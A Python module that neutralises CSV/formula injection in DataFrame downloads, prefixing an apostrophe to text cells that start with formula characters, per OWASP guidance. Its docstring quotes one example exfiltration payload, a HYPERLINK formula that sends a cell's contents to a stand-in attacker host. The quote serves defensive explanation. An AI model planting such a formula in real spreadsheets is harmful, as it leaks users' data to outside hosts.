"""Table downloads that are safe to open in Excel, LibreOffice or Google Sheets.

Customer names, plans and other text come from uploaded billing exports, so a cell such as
``=HYPERLINK("http://evil.example?"&A1, "click")`` would run as a formula when an exec opens the
download (CSV/formula injection, CWE-1236). Following OWASP's CSV-injection guidance, every *text*
cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (also after leading
spaces) gets a leading apostrophe, which spreadsheets read as "this is text". Numbers, dates and
booleans are left alone, so a negative MRR stays a negative number. Nothing here imports
Streamlit; pages pass the bytes to ``st.download_button``.
"""

from __future__ import annotations

import io
import re

import pandas as pd
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

__all__ = ["FORMULA_PREFIXES", "excel_safe", "to_csv_bytes", "to_excel_bytes"]

#: Characters that make a spreadsheet read a cell as a formula when they come first (OWASP CSV
#: injection; OWASP ASVS 1.2.10 adds the NUL character).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\0")
_EXCEL_SHEET_NAME_BAD = re.compile(r"[\[\]:*?/\\]")


def _safe_text(value: object) -> object:
    # Also after leading whitespace: some spreadsheets trim it before deciding.
    if isinstance(value, str) and (
        value.startswith(FORMULA_PREFIXES) or value.lstrip().startswith(FORMULA_PREFIXES)
    ):
        return "'" + value
    return value


def _safe_label(label: object) -> object:
    if isinstance(label, tuple):  # MultiIndex columns: flatten to one readable header
        label = " / ".join(str(part) for part in label)
    return _safe_text(label)


def _is_text(series: pd.Series) -> bool:
    return series.dtype == object or isinstance(series.dtype, (pd.StringDtype, pd.CategoricalDtype))


def excel_safe(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells and labels cannot be read as spreadsheet formulas.

    Text cells (``str``, ``object`` and categorical columns) and column labels starting with a
    formula character get a leading ``'``. Numeric, date and boolean cells are unchanged.
    Categorical columns come back as text. ``df`` itself is not modified.

    Examples
    --------
    >>> df = pd.DataFrame({"customer": ["=1+2", "Acme", "-ACME", "@SUM(A1)"],
    ...                    "mrr": [-5.0, 1, 2, 3]})
    >>> excel_safe(df)
        customer  mrr
    0      '=1+2 -5.0
    1       Acme  1.0
    2     '-ACME  2.0
    3  '@SUM(A1)  3.0
    """
    if not isinstance(df, pd.DataFrame):
        raise ValueError(f"excel_safe needs a DataFrame, got {type(df).__name__}")
    columns = {}
    for position in range(df.shape[1]):
        series = df.iloc[:, position]
        if _is_text(series):
            if isinstance(series.dtype, pd.CategoricalDtype):
                series = series.astype(object)  # renamed categories could collide
            series = series.map(_safe_text, na_action="ignore")
        columns[position] = series
    out = pd.DataFrame(columns, index=df.index)
    out.columns = pd.Index([_safe_label(label) for label in df.columns], dtype=object)
    if isinstance(df.index, pd.MultiIndex):
        out.index = pd.MultiIndex.from_tuples(
            [tuple(_safe_text(v) for v in key) for key in df.index], names=df.index.names
        )
    elif df.index.dtype == object or isinstance(
        df.index.dtype, (pd.StringDtype, pd.CategoricalDtype)
    ):
        out.index = pd.Index([_safe_text(v) for v in df.index], dtype=object, name=df.index.name)
    out.index.names = [_safe_label(name) for name in df.index.names]
    return out


def _flat(df: pd.DataFrame, index: bool | None) -> pd.DataFrame:
    """Move a meaningful index (e.g. the month) into columns so it is exported and sanitised."""
    if index is None:
        index = not (isinstance(df.index, pd.RangeIndex) and df.index.name is None)
    if index:
        df = df.reset_index()
    else:
        df = df.reset_index(drop=True)
    return df


def to_csv_bytes(df: pd.DataFrame, *, index: bool | None = None) -> bytes:
    """UTF-8 CSV (with a byte-order mark, so Excel shows accents right), formula-safe.

    Parameters
    ----------
    df : DataFrame
    index : bool, optional
        Export the index as columns; by default only when it carries information (anything but
        an unnamed RangeIndex).

    Examples
    --------
    >>> to_csv_bytes(pd.DataFrame({"name": ["=cmd"], "mrr": [-1.5]})).decode("utf-8-sig")
    "name,mrr\\r\\n'=cmd,-1.5\\r\\n"
    """
    flat = excel_safe(_flat(df, index))
    # Periods/intervals as their text; CRLF line ends as RFC 4180 says.
    return flat.to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")


def _excel_sheet_name(name: str) -> str:
    cleaned = _EXCEL_SHEET_NAME_BAD.sub(" ", str(name)).strip().strip("'") or "Sheet1"
    return cleaned[:31]  # Excel's limit


def _excel_ready(df: pd.DataFrame) -> pd.DataFrame:
    """Make values openpyxl cannot write (periods, time zones, control characters) writable."""
    columns = {}
    for position in range(df.shape[1]):
        series = df.iloc[:, position]
        if isinstance(series.dtype, pd.DatetimeTZDtype):
            series = series.dt.tz_localize(None)  # Excel has no time zones: keep wall-clock time
        elif (
            isinstance(series.dtype, (pd.PeriodDtype, pd.IntervalDtype)) or series.dtype.kind == "m"
        ):
            series = series.astype(str)
        elif _is_text(series):
            series = series.map(
                lambda v: ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v,
                na_action="ignore",
            )
        columns[position] = series
    out = pd.DataFrame(columns, index=df.index)
    out.columns = [
        ILLEGAL_CHARACTERS_RE.sub("", c) if isinstance(c, str) else c for c in df.columns
    ]
    return out


def to_excel_bytes(
    df: pd.DataFrame, sheet_name: str = "data", *, index: bool | None = None
) -> bytes:
    """An .xlsx workbook (openpyxl) with one sheet, formula-safe.

    Text that would start a formula is stored as text with a leading apostrophe; control
    characters Excel forbids are dropped; periods become text like ``2024-03``; time-zone-aware
    times keep their wall-clock time.

    Examples
    --------
    >>> data = to_excel_bytes(pd.DataFrame({"name": ["=cmd"], "mrr": [-1.5]}), "MRR")
    >>> pd.read_excel(io.BytesIO(data), sheet_name="MRR")
        name  mrr
    0  '=cmd -1.5
    """
    # Clean first, then neutralise: dropping a control character could expose a leading "=".
    flat = excel_safe(_excel_ready(_flat(df, index)))
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        flat.to_excel(writer, sheet_name=_excel_sheet_name(sheet_name), index=False)
    return buffer.getvalue()
